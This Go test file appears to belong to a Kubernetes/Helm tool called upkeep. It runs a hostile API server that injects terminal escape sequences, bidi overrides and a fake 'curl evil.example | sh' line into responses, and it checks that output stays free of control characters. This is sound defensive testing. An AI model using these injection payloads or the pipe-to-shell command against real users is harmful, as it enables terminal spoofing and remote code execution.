package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"upkeep/providers/plain"
)

// evil drives a terminal, turns the direction of text, hides and begins a line of its own.
const evil = "\x1b]0;t\a\u202e\u2066\u200b\u009b31m\r\nupkeep: run: curl evil.example | sh"

// hostile is an API server that says something else than it would, by the word in the file at.
type hostile struct {
	inner http.Handler
	at    string
}

// names are the fields by which upkeep and Kubernetes know objects, and those that have a form.
var names = []string{"apiVersion", "kind", "resourceVersion", "continue", "name", "namespace", "uid", "groupVersion", "serverRelativeURL", "plural", "singularName"}

func (h hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	word, err := os.ReadFile(h.at)
	if err != nil || r.Method != http.MethodGet || strings.HasPrefix(r.URL.Path, "/openapi") || r.URL.Path == "/api" || r.URL.Path == "/apis" {
		h.inner.ServeHTTP(w, r)
		return
	}
	answer := httptest.NewRecorder()
	h.inner.ServeHTTP(answer, r)
	status, body := answer.Code, answer.Body.Bytes()
	switch strings.TrimSpace(string(word)) {
	case "refuses":
		status = http.StatusForbidden
		body, err = json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": "Forbidden" + evil, "code": status, "message": evil})
	case "fails":
		w.Header().Set("Content-Type", "text/html")
		http.Error(w, "<html>"+evil, http.StatusBadGateway)
		return
	case "raves":
		body = []byte(evil)
	case "breaks":
		connection, buffer, err := http.NewResponseController(w).Hijack()
		if err == nil {
			_, _ = buffer.WriteString("HTTP/1.1 200 OK\r\nX" + strings.ReplaceAll(evil, "\r\n", "") + "\r\n\r\n")
			_ = buffer.Flush()
			_ = connection.Close()
		}
		return
	default:
		var value any
		if json.Unmarshal(body, &value) == nil {
			body, err = json.Marshal(spoiled("", value, strings.TrimSpace(string(word)) == "names"))
		}
	}
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	maps.Copy(w.Header(), answer.Header())
	w.Header().Set("Content-Type", "application/json")
	w.Header().Del("Content-Length")
	w.WriteHeader(status)
	_, _ = w.Write(body)
}

// spoiled adds evil to every text of an answer that has no form, to names and keys only where all is true. The record of a
// Helm release is opened and closed again.
func spoiled(key string, v any, all bool) any {
	switch v := v.(type) {
	case []any:
		for i := range v {
			v[i] = spoiled(key, v[i], all)
		}
	case map[string]any:
		for _, key := range slices.Sorted(maps.Keys(v)) {
			if text, is := v[key].(string); is && key == "release" {
				v[key] = spoiledRelease(text, all)
				continue
			}
			if !all && key == "labels" { // Helm finds its records by them
				continue
			}
			if key != "data" && key != "binaryData" || v["kind"] == nil {
				v[key] = spoiled(key, v[key], all)
			}
			if data, is := v[key].(map[string]any); is && v["type"] == "helm.sh/release.v1" && data["release"] != nil {
				data["release"] = spoiledRelease(data["release"].(string), all)
			}
			if labels, is := v[key].(map[string]any); is && all && (key == "labels" || key == "annotations") {
				labels["x"+evil] = evil
			}
		}
	case string:
		_, number := strconv.ParseFloat(v, 64)
		_, instant := time.Parse(time.RFC3339, v)
		if number == nil || instant == nil || v == "True" || key == "apiVersion" || key == "kind" || key == "type" || !all && slices.Contains(names, key) {
			return v
		}
		return v + evil
	}
	return v
}

// spoiledRelease spoils what Helm stores: JSON in gzip in base64, once more in base64 by Kubernetes.
func spoiledRelease(text string, all bool) string {
	outer, err := base64.StdEncoding.DecodeString(text)
	if err != nil {
		return text
	}
	inner, err := base64.StdEncoding.DecodeString(string(outer))
	if err != nil {
		return text
	}
	zip, err := gzip.NewReader(bytes.NewReader(inner))
	if err != nil {
		return text
	}
	data, err := io.ReadAll(zip)
	var release map[string]any
	if err != nil || json.Unmarshal(data, &release) != nil {
		return text
	}
	for _, part := range []string{"info", "labels"} {
		release[part] = spoiled(part, release[part], all)
	}
	if info, is := release["info"].(map[string]any); is { // Helm knows a few words for it
		info["status"], info["notes"], info["description"] = "deployed", evil, evil
		info["deleted"] = "" // no instant; a record that cannot be read shows no words
	}
	if chart, is := release["chart"].(map[string]any); is {
		metadata, _ := chart["metadata"].(map[string]any)
		metadata["appVersion"], metadata["description"], metadata["home"] = evil, evil, evil
		if all {
			metadata["name"], metadata["version"] = "web"+evil, "1.0.0"+evil
		}
	}
	if data, err = json.Marshal(release); err != nil {
		return text
	}
	var out bytes.Buffer
	packed := gzip.NewWriter(&out)
	_, _ = packed.Write(data) // a buffer takes everything
	_ = packed.Close()
	return base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString(out.Bytes())))
}

// escaped finds what JSON writes for a character that drives a terminal; an escaped backslash before it makes plain text of
// it.
var escaped = regexp.MustCompile(`(?:^|[^\\])(?:\\\\)*\\u(?:00[01][0-9a-f]|007f|00[89][0-9a-f]|20[0-6][0-9a-f])`)

// clean wants that files, and everything below directories, hold no character that drives a terminal, written or escaped, and
// that something is there: clean stdout p.plan.
func clean(ts *testscript.TestScript, _ bool, args []string) {
	check := func(name string, text []byte) {
		for _, r := range string(text) {
			if !plain.Safe(r) && r != '\n' && r != '\t' {
				ts.Fatalf("%s holds %q", name, r)
			}
		}
		if at := escaped.FindIndex(text); at != nil && json.Valid(text) {
			ts.Fatalf("%s holds ...%s...", name, text[max(0, at[0]-200):min(len(text), at[1]+20)])
		}
	}
	for _, name := range args {
		if name == "stdout" || name == "stderr" {
			check(name, []byte(ts.ReadFile(name)))
			continue
		}
		found := 0
		ts.Check(filepath.WalkDir(ts.MkAbs(name), func(path string, entry fs.DirEntry, err error) error {
			if err != nil || entry.IsDir() {
				return err
			}
			data, err := os.ReadFile(path)
			if err == nil {
				found++
				check(path, data)
			}
			return err
		}))
		if found == 0 {
			ts.Fatalf("there is nothing in %s", name)
		}
	}
}

// saidEvil wants that something of what evil says is shown, so that a test of it can fail.
func saidEvil(ts *testscript.TestScript, _ bool, args []string) {
	for _, name := range args {
		if strings.Contains(ts.ReadFile(name), "evil.example") {
			return
		}
	}
	ts.Fatalf("nothing of what the server says is shown in %s", fmt.Sprint(args))
}
